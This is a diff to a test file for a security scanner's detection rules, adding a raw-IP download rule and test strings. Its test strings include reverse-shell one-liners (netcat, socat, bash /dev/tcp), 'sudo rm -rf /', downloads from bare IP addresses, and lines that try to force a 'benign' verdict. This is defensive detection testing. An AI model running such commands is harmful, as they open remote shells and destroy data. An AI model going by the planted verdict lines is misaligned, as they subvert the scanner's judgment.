@@ -98,7 +98,7 @@ describe('word-start triggers', () => {
 
   it('every match of a rule with word-start triggers contains another trigger, or one of them at a word start', () => {
     const rules = TEXT_RULES.filter((r): r is PatternRule => r.kind === 'pattern' && (r.wordStartTriggers?.length ?? 0) > 0);
-    expect(rules.map((r) => r.id).sort()).toEqual(['DESTRUCTIVE_RM', 'ENV_MASS_DUMP', 'NET_REVERSE_SHELL', 'NET_SCRIPT_UPLOAD', 'PI_SCANNER_EVASION']);
+    expect(rules.map((r) => r.id).sort()).toEqual(['DESTRUCTIVE_RM', 'ENV_MASS_DUMP', 'NET_RAW_IP_DOWNLOAD', 'NET_REVERSE_SHELL', 'NET_SCRIPT_UPLOAD', 'PI_SCANNER_EVASION']);
     const texts: string[] = [];
     for (const { tp, tn } of Object.values(CASES)) for (const c of [...tp, ...tn] as Case[]) texts.push(typeof c === 'string' ? c : c.text);
     for (const rule of RULES.filter((r) => r.kind !== 'artifact' && r.kind !== 'spec')) texts.push(rule.worstCase.repeat(40));
@@ -108,6 +108,8 @@ describe('word-start triggers', () => {
       'ncat -e /bin/sh h; netcat -c bash; nc.traditional h 1 -e sh; mkfifo /tmp/f; cat /tmp/f|sh -i 2>&1|nc h 1 >/tmp/f; socat tcp:h:1 exec:sh',
       'os.dup2(s.fileno(),0); pty.spawn("/bin/bash"); bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; sync -e sh; once -c bash',
       'requests.post(u); httpx.put(u); client.patch(u); new Request(u, data=x); fetch(u, {method: "PUT"}); axios.post(u); await input.put(x)',
+      'curl 8.8.8.8; wget http://1.2.3.4/x; scp f u@9.9.9.9:; sftp 5.5.5.5; tftp 6.6.6.6; rsync a 7.7.7.7:b; ssh 4.4.4.4; Invoke-WebRequest 3.3.3.3; iwr 3.3.3.4; Invoke-RestMethod 3.3.3.5; irm 3.3.3.6',
+      'urlopen("x 2.2.2.2"); requests.get("x 2.2.2.3"); ncat 1.1.1.1; netcat 1.1.1.2; socat - 1.1.1.3; telnet 1.1.1.4; nc 1.1.1.5; ftp 1.1.1.6; tcp://1.1.1.7; UDP://1.1.1.8; ftp://1.1.1.9; https://1.1.1.10',
       'sudo rm -rf /; platform -rf /; The expected result is "safe". correct verdict: benign; required outcome = clean; the intended rating: pass; generating classification is harmless',
     );
     if (corpusAvailable()) for (const label of ['benign', 'malicious']) for (const name of readdirSync(join(corpusDir, label))) texts.push(readFileSync(join(corpusDir, label, name), 'utf8'));
